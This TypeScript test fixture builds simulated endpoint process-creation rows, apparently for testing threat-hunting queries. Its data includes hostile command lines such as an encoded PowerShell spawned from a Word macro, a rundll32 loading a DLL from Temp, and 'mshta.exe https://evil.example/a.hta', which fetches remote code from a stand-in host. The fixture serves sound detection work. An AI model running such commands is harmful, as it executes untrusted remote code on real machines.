import type { Row } from '../../schema/types.js';

/** Returns a time on one of the fixture's two days, in milliseconds since epoch (UTC). */
export function at(day: '11-30' | '12-01', time: string): number {
  const [hour, minute] = time.split(':').map(Number) as [number, number];
  return day === '11-30' ? Date.UTC(2026, 10, 30, hour, minute) : Date.UTC(2026, 11, 1, hour, minute);
}

interface FixtureProcess {
  time: number;
  device: 'ws1' | 'ws2' | 'srv1';
  account: string;
  file: string;
  folder: string;
  pid: number;
  parentPid: number;
  parentFile: string;
  commandLine: string;
  size: number;
  additional: unknown;
}

const processes: FixtureProcess[] = [
  { time: at('11-30', '08:00'), device: 'ws1', account: 'alice', file: 'WINWORD.EXE', folder: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', pid: 100, parentPid: 10, parentFile: 'explorer.exe', commandLine: '"WINWORD.EXE" /n "C:\\Users\\alice\\Downloads\\invoice.docm"', size: 1000, additional: { Tags: ['office', 'macro'] } },
  { time: at('11-30', '08:05'), device: 'ws1', account: 'alice', file: 'cmd.exe', folder: 'C:\\Windows\\System32\\cmd.exe', pid: 101, parentPid: 100, parentFile: 'WINWORD.EXE', commandLine: 'cmd.exe /c powershell -enc SQBFAFgA', size: 300, additional: null },
  { time: at('11-30', '08:06'), device: 'ws1', account: 'alice', file: 'powershell.exe', folder: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', pid: 102, parentPid: 101, parentFile: 'cmd.exe', commandLine: 'powershell -enc SQBFAFgA', size: 500, additional: { Encoded: true } },
  { time: at('11-30', '08:30'), device: 'ws1', account: 'alice', file: 'AnyDesk.exe', folder: 'C:\\Users\\alice\\Downloads\\AnyDesk.exe', pid: 103, parentPid: 10, parentFile: 'explorer.exe', commandLine: '"AnyDesk.exe" --install', size: 4000, additional: { Tags: ['rat'] } },
  { time: at('11-30', '09:15'), device: 'ws2', account: 'bob', file: 'chrome.exe', folder: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', pid: 200, parentPid: 20, parentFile: 'explorer.exe', commandLine: 'chrome.exe --type=renderer', size: 2000, additional: null },
  { time: at('11-30', '09:20'), device: 'ws2', account: 'bob', file: 'setup.exe', folder: 'C:\\Users\\bob\\Downloads\\setup.exe', pid: 201, parentPid: 200, parentFile: 'chrome.exe', commandLine: 'setup.exe /S', size: 800, additional: { Tags: [] } },
  { time: at('11-30', '09:21'), device: 'ws2', account: 'bob', file: 'rundll32.exe', folder: 'C:\\Windows\\System32\\rundll32.exe', pid: 202, parentPid: 201, parentFile: 'setup.exe', commandLine: 'rundll32.exe C:\\Users\\bob\\AppData\\Local\\Temp\\x.dll,Start', size: 70, additional: null },
  { time: at('11-30', '10:00'), device: 'srv1', account: 'system', file: 'svchost.exe', folder: 'C:\\Windows\\System32\\svchost.exe', pid: 300, parentPid: 4, parentFile: 'services.exe', commandLine: 'svchost.exe -k netsvcs', size: 50, additional: null },
  { time: at('11-30', '10:30'), device: 'srv1', account: 'system', file: 'svchost.exe', folder: 'C:\\Windows\\System32\\svchost.exe', pid: 301, parentPid: 4, parentFile: 'services.exe', commandLine: 'svchost.exe -k LocalService', size: 50, additional: null },
  { time: at('11-30', '11:45'), device: 'ws1', account: 'alice', file: 'powershell.exe', folder: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', pid: 104, parentPid: 10, parentFile: 'explorer.exe', commandLine: 'powershell.exe -NoProfile -File C:\\Users\\alice\\Desktop\\run.ps1', size: 500, additional: null },
  { time: at('12-01', '07:10'), device: 'ws2', account: 'bob', file: 'mshta.exe', folder: 'C:\\Windows\\System32\\mshta.exe', pid: 203, parentPid: 20, parentFile: 'explorer.exe', commandLine: 'mshta.exe https://evil.example/a.hta', size: 40, additional: null },
  { time: at('12-01', '07:11'), device: 'ws1', account: 'alice', file: 'cmd.exe', folder: 'C:\\Windows\\System32\\cmd.exe', pid: 106, parentPid: 105, parentFile: 'OUTLOOK.EXE', commandLine: 'cmd.exe /c whoami', size: 300, additional: null },
];

/**
 * Twelve DeviceProcessEvents rows on three devices over two days: an Office document that starts
 * cmd and an encoded PowerShell, a remote access tool and an installer run from Downloads, a
 * browser that drops an installer which loads a DLL from Temp, service hosts, and an mshta.
 */
export function fixtureRows(): Row[] {
  return processes.map((p) => ({
    Timestamp: p.time,
    DeviceId: `d-${p.device}`,
    DeviceName: p.device,
    ActionType: 'ProcessCreated',
    FileName: p.file,
    FolderPath: p.folder,
    SHA256: `sha-${p.file.toLowerCase()}`,
    FileSize: p.size,
    ProcessId: p.pid,
    ProcessCommandLine: p.commandLine,
    ProcessIntegrityLevel: p.device === 'srv1' ? 'System' : p.pid === 102 ? 'High' : 'Medium',
    AccountDomain: p.device === 'srv1' ? 'nt authority' : 'corp',
    AccountName: p.account,
    InitiatingProcessFileName: p.parentFile,
    InitiatingProcessId: p.parentPid,
    InitiatingProcessCommandLine: '',
    AdditionalFields: p.additional,
  }));
}
